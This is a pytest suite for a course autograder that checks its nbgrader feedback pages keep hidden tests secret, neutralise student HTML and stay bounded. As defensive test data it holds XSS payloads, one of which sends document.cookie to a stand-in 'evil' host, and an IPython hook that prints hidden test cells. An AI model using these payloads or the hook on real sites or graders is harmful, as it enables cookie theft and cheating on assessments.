"""Feedback pages and the course's nbgrader extensions, on real notebooks with the real pipeline.

* ``autograder.feedback.render`` on the course's source notebooks (test cells carry their hidden
  tests, as after nbgrader restored them) with crafted outputs: no hidden test line, no live HTML
  from the student, bounded time, verdicts always present;
* real nbgrader in a temporary course: ``generate_assignment``, ``autograde`` without the false
  checksum warnings of nbgrader #1961 (and with a real tampering still reported),
  ``generate_feedback`` through ``SafeFeedback``, every command stopping when the course package
  cannot be imported, and ``Validator`` failing on visible check cells;
* one real ``python -m autograder grade --no-sandbox --workers 1`` batch of crafted submissions.
"""
from __future__ import annotations

import html
import html.parser
import json
import shutil
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import pytest
from nbgrader import utils as nbutils

import nbtools
from autograder import feedback

REPO = Path(__file__).resolve().parents[1]
A = "ps1_smoothing"


# --------------------------------------------------------------------------- helpers


def hidden_lines(assignment: str = A) -> list[str]:
    """Distinctive lines of the hidden tests of ``assignment`` (the source notebook)."""
    public = "\n".join(c.source for c in nbtools.load(assignment, "release").cells)
    public += "\n".join(nbtools.solution_sources(assignment).values())
    lines = []
    for cell in nbtools.load(assignment).cells:
        if "BEGIN HIDDEN TESTS" in cell.source:
            body = cell.source.split("BEGIN HIDDEN TESTS", 1)[1].split("END HIDDEN TESTS", 1)[0]
            lines += [ln.strip() for ln in body.splitlines() if len(ln.strip()) > 25 and ln.strip() not in public]
    assert len(lines) > 20
    return list(dict.fromkeys(lines))


def leaked(page: str, assignment: str = A) -> list[str]:
    text = html.unescape(page)
    return [line for line in hidden_lines(assignment) if line in text or html.escape(line) in page]


class Tags(html.parser.HTMLParser):
    """Every start tag with its attributes (the browser's view of the page)."""

    def __init__(self, page: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def assert_inert(page: str) -> None:
    """No script, event handler, javascript: URL, foreign style or embedded object; our CSP."""
    tags = Tags(page).tags
    names = [t for t, _ in tags]
    assert "script" not in names
    for bad in ("iframe", "object", "embed", "svg", "img", "link", "form", "base", "math"):
        assert bad not in names, bad
    assert names.count("style") == 1  # the page's own
    for tag, attrs in tags:
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            assert name != "style", tag
            assert "javascript:" not in (value or "").lower().replace(" ", ""), (tag, name, value)
    metas = [a for t, a in tags if t == "meta" and a.get("http-equiv") == "Content-Security-Policy"]
    assert metas and "default-src 'none'" in metas[0]["content"] and "script-src" not in metas[0]["content"]


def source_nb(assignment: str = A, answers: dict[str, str] | None = None) -> nbformat.NotebookNode:
    """The source notebook (test cells with hidden tests, like after OverwriteCells) with the
    solutions, or ``answers`` in the answer cells."""
    nb = nbtools.load(assignment)
    for cell in nb.cells:
        if nbtools.is_answer(cell):
            cell.source = (answers or {}).get(nbtools.grade_id(cell), nbtools.strip_solution_markers(cell.source))
    return nb


def verdicts_for(nb, failing: dict[str, str] | None = None) -> dict:
    out = {}
    for cell in nb.cells:
        if nbutils.is_grade(cell) and not nbutils.is_solution(cell):
            gid, points = cell.metadata.nbgrader["grade_id"], float(cell.metadata.nbgrader["points"])
            msg = (failing or {}).get(gid)
            out[gid] = {"score": 0.0 if msg else points, "max_score": points, "message": msg or "",
                        "kernel_score": None, "unverifiable": False}
    return out


def stream(text: str):
    return nbformat.v4.new_output("stream", name="stdout", text=text)


def render(nb, verdicts=None, renderer=None) -> str:
    verdicts = verdicts if verdicts is not None else verdicts_for(nb)
    score = sum(v["score"] for v in verdicts.values())
    return feedback.render(renderer or feedback.exporter(None), nb, "alice", A, verdicts, score,
                           sum(v["max_score"] for v in verdicts.values()))


def first_test_index(nb) -> int:
    return next(i for i, c in enumerate(nb.cells) if nbutils.is_grade(c) and not nbutils.is_solution(c))


# --------------------------------------------------------------------------- render(), direct


def test_hook_printing_hidden_tests_never_reaches_the_page():
    """A student's pre_run_cell hook prints each test cell's source while it runs (issue 12, 4):
    the test cells' outputs, and outputs of later student cells that replay it, hold hidden code."""
    nb = source_nb()
    secret = "\n".join(hidden_lines())
    for i, cell in enumerate(nb.cells):
        if cell.cell_type != "code":
            continue
        if i > first_test_index(nb):
            cell.outputs = [stream(secret),
                            nbformat.v4.new_output("error", ename="Leak", evalue=secret[:500],
                                                   traceback=secret.splitlines()),
                            nbformat.v4.new_output("display_data", data={"text/plain": secret})]
    failing = {"test_q1": "AssertionError: set q1 to a list of 5 floats"}
    verdicts = verdicts_for(nb, failing)
    page = render(nb, verdicts)
    assert not leaked(page)
    assert "AssertionError: set q1 to a list of 5 floats" in html.unescape(page)
    assert "verified by the grader" in page
    for gid in verdicts:  # every test has its verdict, once in the summary and once in place
        assert page.count(f"<code>{gid}</code>") == 1 and page.count(f"<b>{gid}</b>") == 1
    # the student's own answer code is shown
    assert "F.one_hot(targets.long(), num_classes).to(torch.float32)" in html.unescape(page)


def test_display_update_after_tests_is_not_shown():
    """Outputs before the first test: stream and errors only; a display output there could have
    been rewritten by update_display_data from a cell that ran after the hidden tests."""
    nb = source_nb()
    setup = next(c for c in nb.cells if c.get("id") == "setup")
    setup.outputs = [stream("torch 2.x ready\n"),
                     nbformat.v4.new_output("display_data", data={"text/plain": hidden_lines()[0]}),
                     nbformat.v4.new_output("execute_result", data={"text/plain": hidden_lines()[1]},
                                            execution_count=1)]
    page = render(nb)
    assert "torch 2.x ready" in page
    assert not leaked(page)
    assert "2 display output(s) not shown" in page


def test_xss_markdown_and_outputs_are_inert():
    payloads = [
        '<img src=x onerror="fetch(\'//evil/\'+document.cookie)">',
        "<script>alert(1)</script>",
        "[click](javascript:alert(1))",
        "[click2](JaVaScRiPt:alert(1))",
        '<a href="javascript:alert(1)">x</a>',
        "<style>body{background:url(//evil/leak)}</style>",
        '<iframe src="//evil"></iframe>',
        '<svg onload="alert(1)"><circle r=4 /></svg>',
        '<div style="background:url(//evil)">x</div>',
        "![track](http://evil/pixel.png)",
        '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    ]
    nb = source_nb(answers={"q1": 'q1 = [0.92, 0.02, 0.02, 0.02, 0.02]\n"</pre><script>alert(1)</script>"'})
    at = first_test_index(nb)
    nb.cells.insert(1, nbformat.v4.new_markdown_cell("\n\n".join(payloads)))
    rich = nbformat.v4.new_code_cell("display(HTML(...))")
    rich.outputs = [
        nbformat.v4.new_output("display_data", data={"text/html": "<script>alert(1)</script>",
                                                     "text/plain": "<HTML object>"}),
        nbformat.v4.new_output("display_data", data={"image/svg+xml": '<svg onload="alert(1)"/>'}),
        nbformat.v4.new_output("display_data", data={"application/javascript": "alert(1)"}),
        nbformat.v4.new_output("display_data", data={"application/vnd.jupyter.widget-view+json":
                                                     {"model_id": "x", "version_major": 2, "version_minor": 0}}),
        stream("<script>alert(2)</script>\n"),
        nbformat.v4.new_output("error", ename="E", evalue="<img src=x onerror=alert(3)>",
                               traceback=["\x1b[31m<img src=x onerror=alert(3)>\x1b[0m"]),
    ]
    nb.cells.insert(at, rich)  # before the first test: its outputs are eligible
    verdicts = verdicts_for(nb, {"test_q2": '<script>alert("message")</script>'})
    page = render(nb, verdicts)
    assert_inert(page)
    assert "&lt;script&gt;alert(2)&lt;/script&gt;" in page  # shown as text, escaped
    assert "4 display output(s) not shown" in page


def test_quadratic_markdown_is_bounded():
    """``"[a](" * 60000`` (240 kB) took 107 s in nbconvert's template (issue 12, 8)."""
    nb = source_nb()
    nb.cells.insert(1, nbformat.v4.new_markdown_cell("[a](" * 60000))
    for n in (4000, 4900):  # under the per-cell cap: rendered as markdown, still fast
        nb.cells.insert(1, nbformat.v4.new_markdown_cell("[a](" * n))
    t = time.monotonic()
    page = render(nb)
    seconds = time.monotonic() - t
    assert seconds < 5, seconds
    assert "too large to render: 240000 characters" in page
    assert "verified by the grader" in page


def test_size_caps():
    nb = source_nb(answers={"q1": "q1 = 1\n" + "x = 1  # padding\n" * 100_000})
    nb.cells[2].outputs = [stream("y" * 5_000_000)]
    nb.cells += [nbformat.v4.new_markdown_cell(f"cell {i}") for i in range(feedback.MAX_CELLS)]
    page = render(nb)
    assert len(page) < 1_000_000
    assert "more characters not shown" in page and "more cells not shown" in page


def test_render_timeout_still_gives_verdicts():
    """A render past its wall-clock limit (or out of memory) gives a page with every verdict."""
    nb = source_nb()
    verdicts = verdicts_for(nb, {"test_q3": "AssertionError: q3 is one letter"})
    page = render(nb, verdicts, feedback.Renderer(timeout=0.001))
    assert "could not be shown here (rendering took longer than 0.001 s)" in page
    assert "AssertionError: q3 is one letter" in page
    assert all(f"<code>{gid}</code>" in page for gid in verdicts)
    assert "Score: 19 / 20" in page


def test_bounded_child_memory_limit():
    body, reason = feedback._bounded(lambda: "x" * (2 << 30), feedback.Renderer(memory=256 << 20))
    assert body is None and reason == "rendering ran out of memory"


def test_bounded_child_is_killed_at_the_deadline():
    t = time.monotonic()
    body, reason = feedback._bounded(lambda: time.sleep(60) or "never", feedback.Renderer(timeout=0.5))
    assert body is None and "longer than 0.5 s" in reason
    assert time.monotonic() - t < 5


def test_begin_hidden_tests_in_an_answer():
    """nbgrader's ClearHiddenTests raised on this and the row became ``failed: grader error``."""
    answer = 'q1 = [0.92, 0.02, 0.02, 0.02, 0.02]\n# ### BEGIN HIDDEN TESTS\n"BEGIN HIDDEN TESTS"'
    nb = source_nb(answers={"q1": answer})
    page = render(nb)
    assert "BEGIN HIDDEN TESTS" in page and "could not be shown" not in page
    assert not leaked(page)


# --------------------------------------------------------------------------- real nbgrader


def _nbgrader(course: Path, *args: str, block_course_package: bool = False, timeout: int = 600):
    """Run the real nbgrader CLI in ``course``; optionally as if the course package were not
    installed (``autograder`` unimportable, as in a JupyterHub image without it)."""
    code = ("import sys\n"
            + ("sys.modules['autograder'] = None\n" if block_course_package else "")
            + "from nbgrader.apps.nbgraderapp import main\nsys.argv = ['nbgrader'] + sys.argv[1:]\nsys.exit(main())\n")
    return subprocess.run([sys.executable, "-c", code, *args], cwd=course, capture_output=True, text=True,
                          timeout=timeout, env=nbtools._child_env())


@pytest.fixture(scope="module")
def course(tmp_path_factory) -> Path:
    """A course root with the course's nbgrader_config.py, ps1 generated, and submissions:
    ``honest`` (the release notebook with the solutions), ``tamper`` (a visible test edited),
    ``evil`` (XSS markdown, a hook that prints every cell's source, BEGIN HIDDEN TESTS)."""
    root = tmp_path_factory.mktemp("course")
    shutil.copy2(REPO / "nbgrader_config.py", root / "nbgrader_config.py")
    shutil.copytree(REPO / "source" / A, root / "source" / A)
    done = _nbgrader(root, "generate_assignment", A, "--force")
    assert done.returncode == 0, done.stdout + done.stderr
    subs = {"honest": nbtools.build_submission(A)}
    tamper = nbtools.build_submission(A)
    cell = next(c for c in tamper.cells if nbtools.grade_id(c) == "test_q1")
    cell.source = "pass  # the test is gone"
    subs["tamper"] = tamper
    evil = nbtools.build_submission(A, {"q4": 'q4 = 0.05\n"### BEGIN HIDDEN TESTS"'})
    evil.cells.insert(1, nbformat.v4.new_markdown_cell('<img src=x onerror="alert(1)"> <script>alert(2)</script>'))
    evil.cells.insert(2, nbformat.v4.new_code_cell(
        "from IPython.display import HTML, display\n"
        "display(HTML('<script>alert(3)</script>'))\n"
        "get_ipython().events.register('pre_run_cell', lambda info: print(info.raw_cell))"))
    subs["evil"] = evil
    for sid, nb in subs.items():
        folder = root / "submitted" / sid / A
        folder.mkdir(parents=True)
        nbformat.write(nb, folder / f"{A}.ipynb")
    return root


@pytest.fixture(scope="module")
def autograded(course) -> subprocess.CompletedProcess:
    done = _nbgrader(course, "autograde", A, "--force")
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    return done


def test_no_false_checksum_warnings_but_tampering_reported(course, caplog):
    """In process, on the course's gradebook: stock OverwriteCells warns for every test cell with
    hidden tests (nbgrader #1961); the course's subclass only for the tampered cell, and restores it."""
    import logging

    from nbgrader.preprocessors import OverwriteCells

    from autograder.nbgrader_ext import OverwriteCellsHiddenAware

    def run(cls, sid):
        nb = nbformat.read(course / "submitted" / sid / A / f"{A}.ipynb", 4)
        resources = {"nbgrader": {"notebook": A, "assignment": A, "student": sid,
                                  "db_url": f"sqlite:///{course / 'gradebook.db'}"}}
        pp = cls()
        caplog.clear()
        with caplog.at_level(logging.WARNING, logger=pp.log.name):
            nb, _ = pp.preprocess(nb, resources)
        return nb, [r.getMessage() for r in caplog.records if "has changed" in r.getMessage()]

    with_hidden = sum("BEGIN HIDDEN TESTS" in c.source for c in nbtools.load(A).cells)
    _, stock = run(OverwriteCells, "honest")
    assert len(stock) == with_hidden > 0, "the premise: nbgrader #1961's false alarms, one per test cell with hidden tests"
    nb, ours = run(OverwriteCellsHiddenAware, "honest")
    assert ours == []
    restored = {nbtools.grade_id(c): c.source for c in nb.cells}
    source = {nbtools.grade_id(c): c.source for c in nbtools.load(A).cells}
    assert all(restored[g] == source[g] for g in restored if g and g.startswith("test_"))
    nb, ours = run(OverwriteCellsHiddenAware, "tamper")
    assert len(ours) == 1 and "checksum" in ours[0] and "test_q1" in ours[0]
    assert next(c for c in nb.cells if nbtools.grade_id(c) == "test_q1").source == source["test_q1"]


def test_nbgrader_autograde_has_no_false_checksum_warnings(autograded):
    log = autograded.stdout + autograded.stderr
    lines = [ln for ln in log.splitlines() if "Attribute 'checksum'" in ln]
    assert len(lines) == 1 and "test_q1" in lines[0], lines  # the tampered one only


def test_nbgrader_generate_feedback_is_safe(course, autograded):
    done = _nbgrader(course, "generate_feedback", A, "--force")
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    for sid in ("honest", "tamper", "evil"):
        page = (course / "feedback" / sid / A / f"{A}.html").read_text()
        assert not leaked(page), sid
        assert "verified by the grader" in page
        assert "tex2jax_ignore" in page
    page = (course / "feedback" / "evil" / A / f"{A}.html").read_text()
    assert "alert(1)" in page and "alert(2)" in page  # shown as text...
    for tag, attrs in Tags(page).tags:  # ...never as markup
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
        assert tag != "img", attrs
    assert "<script>alert" not in page
    assert "verified by the grader" in page and "<table" in page and "&lt;table" not in page


def test_missing_course_package_stops_nbgrader(course, autograded):
    """issue 12, 10: nbgrader logs an exception raised in nbgrader_config.py and goes on with its
    stock pipelines; with the course's config, the commands that need the extensions stop."""
    shutil.rmtree(course / "feedback", ignore_errors=True)
    done = _nbgrader(course, "generate_feedback", A, "--force", block_course_package=True)
    assert done.returncode != 0
    assert "cannot import autograder.nbgrader_ext" in done.stderr
    assert "No module named 'autograder'" in done.stdout + done.stderr or "autograder" in done.stderr
    assert not list((course / "feedback").rglob("*.html")) if (course / "feedback").exists() else True
    done = _nbgrader(course, "autograde", A, "--force", block_course_package=True)
    assert done.returncode != 0 and "cannot import autograder.nbgrader_ext" in done.stderr


# --------------------------------------------------------------------------- Validate


def _validate(path: Path, config=True) -> dict:
    from nbgrader.validator import Validator
    from traitlets.config import Config
    from traitlets.config.loader import PyFileConfigLoader

    cfg = PyFileConfigLoader("nbgrader_config.py", path=str(REPO)).load_config() if config else Config()
    cfg.Execute.timeout = 120
    return Validator(config=cfg).validate(str(path))


@pytest.mark.parametrize("case", ["stub", "wrong", "solution"])
def test_validate_tells_the_truth(case, tmp_path):
    """Stock Validate ignores ungraded cells: for the untouched stub it lists only q1-q4, and a
    wrong one_hot whose visible check raises gets "Success!". With the course's config the check
    cells count; the solution still passes. Grades and points are those of the release."""
    if case == "stub":
        nb = nbtools.build_submission(A, fill_solutions=False)
    elif case == "wrong":  # int64 instead of float32: only the (ungraded) quick check says so
        nb = nbtools.build_submission(A, {"one_hot": "def one_hot(targets, num_classes):\n"
                                                     "    return F.one_hot(targets.long(), num_classes)"})
    else:
        nb = nbtools.build_submission(A)
    path = tmp_path / f"{A}.ipynb"
    nbformat.write(nb, path)
    points = nbtools.test_points(nb)
    result = _validate(path)
    failed = [c["source"].splitlines()[0] for c in result.get("failed", [])]
    if case == "solution":
        assert result == {}, result
        return
    assert any(line.startswith("# Quick checks for one_hot") for line in failed), failed
    if case == "wrong":
        assert _validate(path, config=False) == {}, "the premise: stock Validate says Success"
        assert "float32" in json.dumps(result)
    else:
        assert any(line.startswith("# Quick checks for smooth_labels") for line in failed), failed
    assert nbtools.test_points(nbformat.read(path, 4)) == points and sum(points.values()) == 20


# --------------------------------------------------------------------------- the real grader


def test_real_batch(tmp_path):
    """``python -m autograder grade`` on crafted ps1 submissions; every page is inert, holds no
    hidden test line, and the scores are the honest ones."""
    subs = tmp_path / "subs"
    subs.mkdir()
    cases = {}
    nb = nbtools.build_submission(A)
    nb.cells.insert(1, nbformat.v4.new_markdown_cell(
        '<img src=x onerror="alert(1)"> [x](javascript:alert(1)) <script>alert(2)</script>'))
    cases["xss-markdown"] = (nb, 20)
    nb = nbtools.build_submission(A)
    nb.cells.insert(2, nbformat.v4.new_code_cell(
        "from IPython.display import HTML, Javascript, display\n"
        "display(HTML('<script>alert(3)</script><img src=x onerror=alert(4)>'))\n"
        "display(Javascript('alert(5)'))"))
    cases["html-output"] = (nb, 20)
    nb = nbtools.build_submission(A)
    nb.cells.insert(2, nbformat.v4.new_code_cell(
        "_seen = []\n"
        "def _hook(info):\n"
        "    _seen.append(info.raw_cell)\n"
        "    print(info.raw_cell)\n"
        "get_ipython().events.register('pre_run_cell', _hook)"))
    nb.cells.append(nbformat.v4.new_code_cell("print('\\n'.join(_seen))"))
    cases["hook-prints-tests"] = (nb, None)  # the score is the verdict helper's business here
    nb = nbtools.build_submission(A)
    nb.cells.insert(1, nbformat.v4.new_markdown_cell("[a](" * 60000))
    cases["quadratic-markdown"] = (nb, 20)
    nb = nbtools.build_submission(A, {"q1": 'q1 = 101\n# ### BEGIN HIDDEN TESTS'})
    cases["begin-hidden"] = (nb, 20)
    cases["stub"] = (nbtools.build_submission(A, fill_solutions=False), 0)
    for sid, (nb, _) in cases.items():
        (subs / sid).mkdir()
        nbformat.write(nb, subs / sid / f"{A}.ipynb")  # <student_id>/<assignment>.ipynb
    out = tmp_path / "out"
    t = time.monotonic()
    done = subprocess.run([sys.executable, "-m", "autograder", "grade", A, "--submissions", str(subs),
                           "--out", str(out), "--private", "--no-sandbox", "--workers", "1",
                           "--timeout", "20", "--submission-timeout", "120"],
                          cwd=REPO, capture_output=True, text=True, timeout=900, env=nbtools._child_env())
    seconds = time.monotonic() - t
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    assert "Attribute 'checksum'" not in done.stdout + done.stderr
    rows = {}
    for line in (out / "results.jsonl").read_text().splitlines():
        row = json.loads(line)
        rows[row["student_id"]] = row
    for sid, (_, expected) in cases.items():
        row = rows[sid]
        assert not (row.get("failure") or "").startswith("grader error"), (sid, row.get("failure"))
        if expected is not None:
            assert row["score"] == expected, (sid, row["score"], row.get("failure"))
        pages = [p for p in out.rglob("*.html") if sid in p.parts or p.stem == sid]
        assert len(rows) == len(cases), sorted(rows)
        assert pages, f"no feedback page for {sid}"
        page = pages[0].read_text()
        assert_inert(page)
        assert not leaked(page), sid
        assert "verified by the grader" in page
    print(f"batch of {len(cases)}: {seconds:.1f} s")
